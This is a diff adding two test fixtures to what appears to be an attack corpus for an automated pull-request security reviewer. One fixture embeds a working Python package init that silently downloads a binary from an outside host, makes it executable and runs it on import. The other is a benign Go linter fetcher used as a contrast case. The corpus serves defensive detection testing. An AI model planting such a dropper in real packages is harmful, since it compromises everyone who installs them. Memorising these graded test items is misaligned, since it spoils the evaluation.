@@ -3566,4 +3566,40 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['curl-pipe-shell'] },
   },
+  {
+    id: 'attack-pypi-init-downloads-chmods-runs-hidden',
+    description: 'A package `__init__.py` that, on import, starts a daemon thread which downloads a file to the temporary folder, makes it executable and starts it with its output discarded: the second-stage dropper of malicious PyPI packages, with no eval and no shell string.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted-py',
+        number: 11026,
+        title: 'Package init',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'tinted/__init__.py',
+            base: lines('from .core import tint', '', "__all__ = ['tint']"),
+            head: lines('import os, subprocess, tempfile, threading, urllib.request', 'from .core import tint', '', '', 'def _update():', '    p = os.path.join(tempfile.gettempdir(), ".tint-cache")', '    urllib.request.urlretrieve("https://cdn.tinted-assets.dev/u", p)', '    os.chmod(p, 0o755)', '    subprocess.Popen([p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)', '', '', 'threading.Thread(target=_update, daemon=True).start()', "__all__ = ['tint']"),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['downloaded-binary-run'] },
+  },
+  {
+    id: 'attack-go-tool-fetches-platform-binary',
+    description: 'The benign look-alike (medium at most): a Go developer tool that downloads its pinned platform linter from the release page, makes it executable and runs it in the open, printing its output.',
+    fixture: () =>
+      attackPr({
+        repo: 'logx',
+        number: 11027,
+        title: 'lint: fetch golangci-lint on first run',
+        files: [
+          {
+            path: 'internal/lint/fetch.go',
+            head: lines('package lint', '', 'import (', '\t"io"', '\t"net/http"', '\t"os"', '\t"os/exec"', ')', '', 'const url = "https://github.com/golangci/golangci-lint/releases/download/v1.61.0/golangci-lint-linux-amd64"', '', 'func Run(bin string) error {', '\tresp, err := http.Get(url)', '\tif err != nil {', '\t\treturn err', '\t}', '\tdefer resp.Body.Close()', '\tf, err := os.Create(bin)', '\tif err != nil {', '\t\treturn err', '\t}', '\tif _, err := io.Copy(f, resp.Body); err != nil {', '\t\treturn err', '\t}', '\tf.Close()', '\tos.Chmod(bin, 0755)', '\tcmd := exec.Command(bin, "run", "./...")', '\tcmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr', '\treturn cmd.Run()', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
+  },
 ];
